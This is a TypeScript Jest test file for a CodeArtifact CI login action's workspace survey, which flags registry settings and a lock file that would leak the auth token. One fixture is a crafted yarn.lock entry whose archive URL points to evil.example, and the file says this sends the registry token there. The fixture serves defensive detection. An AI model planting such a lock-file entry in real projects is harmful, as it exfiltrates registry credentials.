import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { join } from 'node:path';
import { loadClient } from '@codeartifact-ci/core/clients/clients.ts';
import type { Finding } from '@codeartifact-ci/core/project/finding.ts';
import type { LoginPlan } from '../../../../actions/login/plan.ts';
import { describeFinding, surveyWorkspace } from '../../../../actions/login/survey.ts';
import { clientContext } from '../../../support/client-context.ts';
import { writeFiles } from '../../../support/projects.ts';
import { makeSandbox, type Sandbox } from '../../../support/sandbox.ts';
import { loginHost } from './host.ts';

const TOKEN = 'the-token';
/** Yarn sends the token that it has for a registry to where the lock file says that an archive is. */
const LEAK = {
  'yarn.lock': `__metadata:\n  version: 8\n\n"a@npm:1.0.0::__archiveUrl=https%3A%2F%2Fevil.example%2Fa.tgz":\n  version: 1.0.0\n  resolution: "a@npm:1.0.0::__archiveUrl=https%3A%2F%2Fevil.example%2Fa.tgz"\n  checksum: 10c0/aa\n`,
};

let sandbox: Sandbox;
beforeEach(async () => {
  sandbox = await makeSandbox();
});
afterEach(() => sandbox.remove());

async function survey(
  tool: 'npm' | 'yarn' | 'yarn-berry',
  more: {
    readonly ours?: string;
    readonly mended?: string;
    readonly allow?: readonly string[];
    readonly home?: string;
  } = {},
): Promise<Finding[]> {
  const { registries } = clientContext('npm');
  const edited = (path: string | undefined) =>
    path === undefined ? [] : [{ path, format: 'npmrc', slots: [], purpose: 'registry' } as const];
  const mends = more.mended === undefined ? {} : { mends: edited(more.mended) };
  const plan = {
    ledger: { home: more.home ?? sandbox.home, workspace: sandbox.workspace },
    configured: [{ client: await loadClient(tool), registries, files: edited(more.ours), ...mends, variables: {} }],
    token: { token: TOKEN, expires: new Date(0) },
    variables: { CODEARTIFACT_AUTH_TOKEN: TOKEN, OTHER: 'x' },
  } as unknown as LoginPlan;
  const inputs = { access: 'read', tokenIn: 'environment', allowLockHosts: more.allow ?? [] } as const;
  return await surveyWorkspace(plan, inputs, loginHost(sandbox));
}

describe('the survey of a workspace', () => {
  it('is silent where nothing goes against the login', async () => {
    await writeFiles(sandbox.workspace, { 'package.json': '{}' });
    expect(await survey('npm')).toEqual([]);
  });

  it('finds what does, but in no file that the login itself writes', async () => {
    await writeFiles(sandbox.workspace, { '.npmrc': 'registry=https://registry.example/\n', 'package.json': '{}' });
    expect(await survey('npm')).toMatchObject([{ file: '.npmrc', line: 1, tools: ['npm'], kind: 'warning' }]);
    expect(await survey('npm', { ours: join(sandbox.workspace, '.npmrc') })).toEqual([]);
    expect(await survey('npm', { mended: join(sandbox.workspace, '.npmrc') })).toEqual([]);
  });

  it('finds it above a workspace below the home directory, but in no file of the user that the login has looked into', async () => {
    await writeFiles(sandbox.root, {
      '.npmrc': 'registry=https://registry.example/\n',
      '.yarnrc': '--registry "https://x.example"\n',
    });
    expect(await survey('yarn', { home: sandbox.root })).toMatchObject([
      { file: join(sandbox.root, '.npmrc'), line: 1 },
    ]);
    expect(await survey('yarn', { home: sandbox.root, ours: join(sandbox.root, '.npmrc') })).toEqual([]);
  });

  it('fails for a file that would have a client send the token elsewhere, unless the host may have it', async () => {
    await writeFiles(sandbox.workspace, LEAK);
    await expect(survey('yarn-berry')).rejects.toThrow(
      /^yarn\.lock:\d+ \(yarn-berry\): .*\nNothing was configured\. If such a host may have the token, name it: 'allow-lock-hosts: evil\.example'\.$/s,
    );
    expect(await survey('yarn-berry', { allow: ['evil.example'] })).toEqual([]);
  });
});

it('a finding is safe for a log, whatever the project says', () => {
  const finding = { file: 'a\n::error::b', line: 3, tools: ['npm', 'yarn'], kind: 'note', message: 'x\r\ny' } as const;
  expect(describeFinding(finding)).not.toMatch(/[\r\n]/);
  expect(describeFinding({ ...finding, file: 'a', message: 'm' })).toBe('a:3 (npm, yarn): m');
});
